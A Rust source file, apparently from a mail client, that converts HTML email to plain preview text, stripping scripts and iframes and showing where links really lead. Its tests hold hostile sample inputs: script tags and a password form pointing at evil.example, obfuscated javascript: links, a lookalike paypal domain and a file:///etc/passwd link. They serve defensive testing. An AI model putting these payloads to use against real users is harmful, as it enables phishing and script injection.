//! HTML as text, in one pass without nesting: tags go, what they would have run or fetched goes with them, and a link
//! becomes its text and the host it really leads to. What comes out is text, escaped like any other when it is shown.

use mail_parser::decoders::html::add_html_token;
use postern_vocab::limits;
use postern_vocab::text::one_line;

/// Elements whose content is not text for a reader.
const UNREAD: [&str; 9] = [
    "script", "style", "title", "template", "iframe", "svg", "math", "textarea", "select",
];
/// Elements that begin and end a line.
const BLOCKS: [&str; 22] = [
    "address",
    "article",
    "blockquote",
    "center",
    "dd",
    "div",
    "dl",
    "dt",
    "footer",
    "form",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "p",
    "pre",
    "section",
    "table",
    "tr",
];
/// Entity names longer than this do not exist.
const ENTITY_OCTETS_MAX: usize = 40;

/// The text of `markup`, and whether it was cut.
pub fn to_text(markup: &str) -> (String, bool) {
    let mut text = Text::default();
    let mut rest = markup;
    while !rest.is_empty() {
        if text.written.len() > limits::PREVIEW_TEXT_BYTES_MAX {
            return (text.written, true);
        }
        rest = step(rest, &mut text);
    }
    text.close_link();
    (text.written.trim().to_owned(), false)
}

/// Takes one tag, comment or stretch of text; what is left.
fn step<'a>(rest: &'a str, text: &mut Text) -> &'a str {
    let Some(inside) = rest.strip_prefix('<') else {
        let end = rest.find('<').unwrap_or(rest.len());
        text.push(&rest[..end]);
        return &rest[end..];
    };
    if let Some(comment) = inside.strip_prefix("!--") {
        return after(comment, "-->");
    }
    let begins_tag = inside.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'));
    if !begins_tag {
        text.push("<");
        return inside;
    }
    let end = tag_end(inside);
    let tag = Tag::new(&inside[..end]);
    let rest = inside.get(end + 1..).unwrap_or_default();
    if !tag.closes && !tag.attributes.ends_with('/') && UNREAD.contains(&tag.name.as_str()) {
        return after_element(rest, &tag.name);
    }
    text.tag(&tag);
    rest
}

/// What follows `mark`; nothing if it never comes.
fn after<'a>(rest: &'a str, mark: &str) -> &'a str {
    rest.find(mark).map_or("", |at| &rest[at + mark.len()..])
}

/// What follows the end tag of the element `name`; nothing if it never comes.
fn after_element<'a>(rest: &'a str, name: &str) -> &'a str {
    let mut from = 0;
    while let Some(at) = rest[from..].find("</") {
        let begin = from + at + 2;
        let found = rest.as_bytes().get(begin..begin + name.len());
        if found.is_some_and(|found| found.eq_ignore_ascii_case(name.as_bytes())) {
            return after(&rest[begin..], ">");
        }
        from = begin;
    }
    ""
}

/// Where the `>` of a tag is, the quoted values of its attributes left out of sight.
fn tag_end(inside: &str) -> usize {
    let mut quote = None;
    let mut before = b' ';
    for (at, octet) in inside.bytes().enumerate() {
        match (quote, octet) {
            (Some(open), _) if octet == open => quote = None,
            (Some(_), _) => {}
            (None, b'>') => return at,
            (None, b'"' | b'\'') if before == b'=' => quote = Some(octet),
            (None, _) => {}
        }
        if !octet.is_ascii_whitespace() {
            before = octet;
        }
    }
    // A quote that never ends: the tag ends where it would without it, so that it hides no text behind it.
    inside.find('>').unwrap_or(inside.len())
}

/// One tag.
struct Tag<'a> {
    name: String,
    closes: bool,
    attributes: &'a str,
}

impl<'a> Tag<'a> {
    fn new(inside: &'a str) -> Self {
        let (closes, inside) = match inside.strip_prefix('/') {
            Some(inside) => (true, inside),
            None => (false, inside),
        };
        let end = inside
            .find(|c: char| c.is_ascii_whitespace() || matches!(c, '/' | '>'))
            .unwrap_or(inside.len());
        Self {
            name: inside[..end].to_ascii_lowercase(),
            closes,
            attributes: &inside[end..],
        }
    }

    /// The value of an attribute, entities decoded.
    fn attribute(&self, wanted: &str) -> Option<String> {
        let mut rest = self.attributes;
        loop {
            rest = rest.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == '/');
            let end = rest.find(|c: char| c.is_ascii_whitespace() || c == '=')?;
            let name = &rest[..end];
            rest = rest[end..].trim_start();
            let Some(given) = rest.strip_prefix('=') else {
                continue;
            };
            let (value, left) = attribute_value(given.trim_start());
            if name.eq_ignore_ascii_case(wanted) {
                return Some(decoded(value));
            }
            rest = left;
        }
    }
}

fn attribute_value(given: &str) -> (&str, &str) {
    for quote in ['"', '\''] {
        if let Some(inside) = given.strip_prefix(quote) {
            return inside.split_once(quote).unwrap_or((inside, ""));
        }
    }
    let end = given
        .find(|c: char| c.is_ascii_whitespace())
        .unwrap_or(given.len());
    given.split_at(end)
}

/// The text with its entities as characters.
fn decoded(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let near = &rest.as_bytes()[..rest.len().min(ENTITY_OCTETS_MAX)];
        match near.iter().position(|octet| *octet == b';') {
            Some(end) => {
                add_html_token(&mut out, &near[..=end], false);
                rest = &rest[end + 1..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// What has been written so far.
#[derive(Default)]
struct Text {
    written: String,
    /// Where the link that is open leads, in words.
    link: Option<String>,
    is_preformatted: bool,
}

impl Text {
    /// A stretch of text, its white space as a browser would show it.
    fn push(&mut self, raw: &str) {
        let text = decoded(raw);
        if self.is_preformatted {
            self.written.push_str(&text);
            return;
        }
        for c in text.chars() {
            if !c.is_whitespace() {
                self.written.push(c);
            } else if !self.written.is_empty() && !self.written.ends_with([' ', '\n']) {
                self.written.push(' ');
            }
        }
    }

    fn tag(&mut self, tag: &Tag<'_>) {
        match (tag.name.as_str(), tag.closes) {
            ("a", true) => self.close_link(),
            ("a", false) => {
                self.close_link();
                self.link = tag.attribute("href").and_then(|target| destination(&target));
            }
            ("br", _) => self.written.push('\n'),
            ("hr", _) => {
                self.line();
                self.written.push_str("----\n");
            }
            ("li", false) => {
                self.line();
                self.written.push_str("- ");
            }
            ("td" | "th", true) => self.written.push(' '),
            ("img", false) => self.picture(tag),
            ("pre", closes) => {
                self.line();
                self.is_preformatted = !closes;
            }
            ("p" | "h1" | "h2" | "h3" | "h4" | "h5" | "h6", true) => {
                self.line();
                if !self.written.is_empty() && !self.written.ends_with("\n\n") {
                    self.written.push('\n');
                }
            }
            (name, _) if BLOCKS.contains(&name) => self.line(),
            _ => {}
        }
    }

    /// A picture is never fetched; what it says of itself is text.
    fn picture(&mut self, tag: &Tag<'_>) {
        let says = tag.attribute("alt").map(|alt| one_line(&alt, 200));
        if let Some(says) = says.filter(|says| !says.trim().is_empty()) {
            self.written.push_str(&format!("[picture: {}]", says.trim()));
        }
    }

    /// Begins a new line, unless one has just begun.
    fn line(&mut self) {
        while self.written.ends_with(' ') {
            self.written.pop();
        }
        if !self.written.is_empty() && !self.written.ends_with('\n') {
            self.written.push('\n');
        }
    }

    fn close_link(&mut self) {
        if let Some(destination) = self.link.take() {
            if !self.written.is_empty() && !self.written.ends_with([' ', '\n']) {
                self.written.push(' ');
            }
            self.written.push_str(&format!("[{destination}]"));
        }
    }
}

/// Where a link leads, in words; nothing for one within the page. Tabs and line ends are no part of an address
/// (WHATWG URL §4.4), and hide a scheme from who looks for it as written.
fn destination(target: &str) -> Option<String> {
    let target: String = target
        .chars()
        .filter(|c| !c.is_control())
        .collect::<String>()
        .trim()
        .replace('\\', "/");
    if target.is_empty() || target.starts_with('#') {
        return None;
    }
    if let Some(rest) = target.strip_prefix("//") {
        return Some(format!("link to {}", host(rest)));
    }
    let Some((scheme, rest)) = target.split_once(':') else {
        return Some("link without an address".to_owned());
    };
    Some(match scheme.to_ascii_lowercase().as_str() {
        "http" | "https" | "ftp" => format!("link to {}", host(rest.trim_start_matches('/'))),
        "mailto" => {
            let address = rest.split('?').next().unwrap_or_default();
            format!("mail to {}", one_line(address, 100))
        }
        "tel" | "sms" => format!("call {}", one_line(rest, 40)),
        "javascript" | "vbscript" | "data" => "link taken out: it would have run a script".to_owned(),
        other => format!("link taken out: it would have opened {}", one_line(other, 40)),
    })
}

/// The host of what follows the scheme: after a user name, which is there to deceive, and before the port's path.
fn host(rest: &str) -> String {
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    // Letters that only look like ASCII ones are shown as what they are.
    one_line(&host.to_lowercase(), 255)
        .chars()
        .flat_map(|c| {
            if c.is_ascii() {
                vec![c]
            } else {
                c.escape_unicode().collect()
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_runs_fetches_or_sends_is_gone() {
        let markup = r#"<html><head><title>t</title><style>p{}</style></head><body onload="run()">
            <script>alert(1)</script><ScRiPt src=//evil.example/x.js></sCrIpT >
            <p>Hello <b>Ann</b> &amp; all</p><img src="http://evil.example/pixel.gif"><img alt="logo" src=x>
            <form action="https://evil.example/post"><input name=password><button>Log in</button></form>
            <iframe src="https://evil.example"></iframe><svg><text>no</text></svg>
            <!-- <p>hidden</p> -->&lt;script&gt;</body></html>"#;
        let (text, is_cut) = to_text(markup);
        assert!(!is_cut);
        assert_eq!(text, "Hello Ann & all\n\n[picture: logo]\nLog in\n<script>");
    }

    #[test]
    fn a_link_shows_where_it_really_leads() {
        let rows = [
            ("https://good.example@evil.example/a", "link to evil.example"),
            ("HTTPS:\\\\EVIL.example\\x", "link to evil.example"),
            ("//evil.example:8080/x", "link to evil.example:8080"),
            ("http://xn--pypal-4ve.com/", "link to xn--pypal-4ve.com"),
            ("http://p\u{430}ypal.com/", "link to p\\u{430}ypal.com"),
            (
                "java\nscript:alert(1)",
                "link taken out: it would have run a script",
            ),
            (
                "&#106;avascript:alert(1)",
                "link taken out: it would have run a script",
            ),
            ("data:text/html,x", "link taken out: it would have run a script"),
            ("mailto:a@b.example?subject=x", "mail to a@b.example"),
            ("file:///etc/passwd", "link taken out: it would have opened file"),
            ("page.html", "link without an address"),
        ];
        for (target, expected) in rows {
            let (text, _) = to_text(&format!(
                "<a class=x href=\"{target}\">https://bank.example</a> end"
            ));
            assert_eq!(text, format!("https://bank.example [{expected}] end"), "{target}");
        }
        assert_eq!(to_text("<a href='#top'>top</a>").0, "top");
    }

    #[test]
    fn lines_are_where_a_reader_expects_them() {
        let (text, _) = to_text(
            "<div>a</div><div>b<br>c</div><ul><li>d<li>e</ul><pre>f\n  g</pre><table><tr><td>h</td><td>i</td></tr></table>",
        );
        assert_eq!(text, "a\nb\nc\n- d\n- e\nf\n  g\nh i");
    }

    #[test]
    fn broken_markup_ends_and_hides_little() {
        let rows = [
            ("a < b and c > d", "a < b and c > d"),
            ("<a href=\"x>text", "text [link without an address]"),
            ("<p title='a > b'>shown", "shown"),
            ("before <script>never ends", "before"),
            ("before <svg/> after", "before after"),
            ("<!-- never ends", ""),
            ("&unknown; &#x26; &", "&unknown; & &"),
            ("<", "<"),
            ("<a", ""),
        ];
        for (markup, expected) in rows {
            assert_eq!(to_text(markup).0, expected, "{markup}");
        }
    }

    #[test]
    fn a_bomb_is_read_in_its_own_length() {
        for unit in [
            "<div>",
            "<a href='",
            "<script>",
            "</",
            "&#",
            "<p x=\">",
            "<!--",
            "<svg>x</svg",
        ] {
            let started = std::time::Instant::now();
            let (text, _) = to_text(&unit.repeat(1_000_000 / unit.len()));
            assert!(started.elapsed().as_secs() < 5, "{unit}: {:?}", started.elapsed());
            assert!(
                text.len() <= 2 * limits::PREVIEW_TEXT_BYTES_MAX + 1_000_000,
                "{unit}"
            );
        }
    }
}
